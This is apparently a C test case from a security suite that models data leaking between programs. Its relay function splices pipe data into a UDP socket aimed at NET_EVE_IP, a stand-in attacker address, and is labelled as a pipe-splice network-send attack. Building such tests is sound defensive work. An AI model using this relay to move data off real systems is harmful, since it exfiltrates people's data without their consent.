// SPDX-License-Identifier: GPL-3.0-or-later
/*
 * To an unapproved program of the same person: by a pipe that it only splices on, and never
 * reads.
 */
#include "flow-chain.h"

static int relay(void)
{
	int out = net_connect(NET_EVE_IP, FLOW_PORT, SOCK_DGRAM, 0);

	return flow_result(splice(flow.way[0], NULL, out, NULL, 4096, 0));
}

FLOW("attack: chain_pipe_splice; threat: #64; op: send; door: network", .make = make_udp,
     .ways = ways_pipe, .put = put_chain, .relay = relay, .get = get_net);
